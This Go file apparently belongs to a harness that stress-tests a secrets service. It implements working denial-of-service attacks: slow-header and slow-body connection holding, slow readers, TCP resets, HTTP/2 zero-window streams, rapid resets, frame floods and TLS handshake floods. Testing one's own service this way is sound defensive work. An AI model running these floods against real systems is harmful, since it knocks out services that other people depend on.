package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// connections are attacks with connections, most of them without a credential.
func connections() []Attack {
	return []Attack{
		{Name: "silent connections", Run: func(ctx context.Context, t *Target) int { return t.hold(ctx, 1500, func(int) string { return "" }) }},
		{Name: "headers that never end", Run: func(ctx context.Context, t *Target) int {
			return t.hold(ctx, 500, func(int) string { return "GET /secrets/s HTTP/1.1\r\nHost: x\r\nX-A: " })
		}},
		{Name: "bodies that never come, without a credential", Run: func(ctx context.Context, t *Target) int {
			return t.hold(ctx, 500, func(int) string { return head(t, "", 1<<20) })
		}},
		{Name: "bodies that never end, with a credential", Run: func(ctx context.Context, t *Target) int {
			part := strings.Repeat("x", 1<<19)
			return t.hold(ctx, 250, func(int) string { return head(t, hostileKey, 1<<20) + `{"data":{"a":"` + part })
		}},
		{Name: "event streams", Run: func(ctx context.Context, t *Target) int {
			return t.hold(ctx, 1000, func(int) string {
				return "GET /events HTTP/1.1\r\nHost: " + t.Addr + "\r\nX-API-Key: " + hostileKey + "\r\n\r\n"
			})
		}},
		{Name: "event streams about the honest caller's secrets", Run: func(ctx context.Context, t *Target) int {
			return t.hold(ctx, 200, func(i int) string {
				return fmt.Sprintf("GET /events?path=mcp/%s/w%d HTTP/1.1\r\nHost: %s\r\nX-API-Key: %s\r\n\r\n", honestSubject, i%50, t.Addr, hostileKey)
			})
		}},
		{Name: "probes that are reset", Run: resets},
		{Name: "HTTP/2 streams whose window stays shut", Run: shutWindows},
		{Name: "HTTP/2 streams that are reset at once", Run: rapidResets},
		{Name: "HTTP/2 frames that ask for nothing", Run: emptyFrames},
		{Name: "TLS handshakes behind which nothing is asked", Run: handshakes, TLS: true},
	}
}

func head(t *Target, key string, length int) string {
	h := fmt.Sprintf("PUT /secrets/b HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n", t.Addr, length)
	if key != "" {
		h += "X-API-Key: " + key + "\r\n"
	}
	return h + "\r\n"
}

// hold opens so many connections, sends a beginning on each and says nothing more.
// A connection that is closed is opened again.
func (t *Target) hold(ctx context.Context, n int, beginning func(i int) string) int {
	opened := 0
	var held []net.Conn
	defer func() {
		for _, c := range held {
			_ = c.Close()
		}
	}()
	for i := 0; ctx.Err() == nil && opened < 4*n; i++ {
		if len(held) == n {
			_ = held[0].Close()
			held = held[1:]
			pause(ctx, 10*time.Millisecond)
		}
		c, err := t.dial(ctx)
		if err != nil {
			pause(ctx, 10*time.Millisecond)
			continue
		}
		_ = c.SetWriteDeadline(time.Now().Add(2 * time.Second))
		_, _ = io.WriteString(c, beginning(i)) // it may be refused
		held, opened = append(held, c), opened+1
	}
	<-ctx.Done()
	return opened
}

func (t *Target) dial(ctx context.Context) (net.Conn, error) {
	d := net.Dialer{Timeout: time.Second}
	return d.DialContext(ctx, "tcp", t.Addr)
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// slowReaders ask for a secret of almost a megabyte and read nothing of it.
func slowReaders(ctx context.Context, t *Target) int {
	return t.hold(ctx, 200, func(int) string {
		return "GET /secrets/s HTTP/1.1\r\nHost: " + t.Addr + "\r\nX-API-Key: " + hostileKey + "\r\n\r\n"
	})
}

// slowBatches do the same over MCP, with many reads in one message.
func slowBatches(ctx context.Context, t *Target) int {
	const one = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"kv_read","arguments":{"path":"s"}}}`
	const many = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"kv_read_many","arguments":{"paths":["s","s","s","s","s","s","s","s"]}}}`
	bodies := []string{one, "[" + strings.Repeat(one+",", 9) + one + "]", many}
	return t.hold(ctx, 100, func(i int) string {
		body := bodies[i%len(bodies)]
		return fmt.Sprintf("POST /mcp/rpc HTTP/1.1\r\nHost: %s\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nAccept: application/json\r\nContent-Length: %d\r\n\r\n%s", t.Addr, hostileKey, len(body), body)
	})
}

// resets asks the probes and hangs up before the answer.
func resets(ctx context.Context, t *Target) int {
	n := 0
	for ; ctx.Err() == nil && n < maxRequests; n++ {
		c, err := t.dial(ctx)
		if err != nil {
			continue
		}
		_, _ = io.WriteString(c, "GET /readyz HTTP/1.1\r\nHost: "+t.Addr+"\r\n\r\n")
		if tcp, ok := c.(*net.TCPConn); ok {
			_ = tcp.SetLinger(0) // a reset, not an orderly end
		}
		_ = c.Close()
		pause(ctx, 5*time.Millisecond)
	}
	return n
}

// shutWindows opens many streams on few HTTP/2 connections, each of which asks for
// a document that may not be sent: the window is zero.
func shutWindows(ctx context.Context, t *Target) int {
	var wg sync.WaitGroup
	counts := make([]int, 8)
	for i := range counts {
		wg.Go(func() { counts[i] = t.frames(ctx, 240, false) })
	}
	wg.Wait()
	return sum(counts)
}

// rapidResets opens streams and resets each at once.
func rapidResets(ctx context.Context, t *Target) int {
	var wg sync.WaitGroup
	counts := make([]int, 4)
	for i := range counts {
		wg.Go(func() {
			for ctx.Err() == nil && counts[i] < maxRequests/4 {
				counts[i] += t.frames(ctx, 1000, true)
			}
		})
	}
	wg.Wait()
	return sum(counts)
}

func sum(counts []int) (n int) {
	for _, c := range counts {
		n += c
	}
	return n
}

// frames speaks HTTP/2 with prior knowledge (RFC 9113, section 3.3) by hand: it asks
// for the document of all operations on so many streams, with a window of zero, and
// resets each or waits for ctx.
func (t *Target) frames(ctx context.Context, streams int, reset bool) int {
	c, err := t.dial(ctx)
	if err != nil {
		pause(ctx, 50*time.Millisecond)
		return 0
	}
	defer func() { _ = c.Close() }()
	go func() { _, _ = io.Copy(io.Discard, c) }()
	_, _ = io.WriteString(c, http2.ClientPreface)
	f := http2.NewFramer(c, nil)
	if f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
		return 0
	}
	var block strings.Builder
	e := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", http.MethodGet}, {":scheme", "http"}, {":authority", t.Addr}, {":path", "/openapi.json"}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	n := 0
	for ; n < streams && ctx.Err() == nil; n++ {
		id := uint32(2*n + 1)
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte(block.String()), EndStream: true, EndHeaders: true})
		if err == nil && reset {
			err = f.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			break
		}
		block.Reset() // the table knows the fields now
		for _, h := range [][2]string{{":method", http.MethodGet}, {":scheme", "http"}, {":authority", t.Addr}, {":path", "/openapi.json"}} {
			_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
	}
	if !reset {
		<-ctx.Done()
	}
	return n
}

// handshakes makes TLS connections over which nothing is asked.
func handshakes(ctx context.Context, t *Target) int {
	var wg sync.WaitGroup
	counts := make([]int, 32)
	for i := range counts {
		wg.Go(func() {
			for ctx.Err() == nil && counts[i] < maxRequests/len(counts) {
				c, err := t.dial(ctx)
				if err != nil {
					pause(ctx, 50*time.Millisecond)
					continue
				}
				counts[i]++
				_ = tls.Client(c, anyServer()).HandshakeContext(ctx)
				_ = c.Close()
			}
		})
	}
	wg.Wait()
	return sum(counts)
}

// emptyFrames sends frames without content on few HTTP/2 connections, without end. It
// counts a thousand of them as one request.
func emptyFrames(ctx context.Context, t *Target) int {
	var wg sync.WaitGroup
	counts := make([]int, 4)
	for i := range counts {
		wg.Go(func() { counts[i] = t.empty(ctx) })
	}
	wg.Wait()
	return sum(counts)
}

func (t *Target) empty(ctx context.Context) (n int) {
	c, err := t.dial(ctx)
	if err != nil {
		return 0
	}
	defer context.AfterFunc(ctx, func() { _ = c.Close() })() // which ends what is written
	go func() { _, _ = io.Copy(io.Discard, c) }()
	var out bytes.Buffer
	f := http2.NewFramer(&out, nil)
	_, _ = out.WriteString(http2.ClientPreface)
	_ = f.WriteSettings()
	if _, err := c.Write(out.Bytes()); err != nil {
		return 0
	}
	out.Reset()
	for range 250 {
		_ = f.WriteSettings()
		_ = f.WritePing(true, [8]byte{})
		_ = f.WriteWindowUpdate(0, 1)
		_ = f.WriteRawFrame(0xbe, 0, 0, nil)
	}
	for ctx.Err() == nil {
		if _, err := c.Write(out.Bytes()); err != nil {
			break
		}
		n++
	}
	return n
}
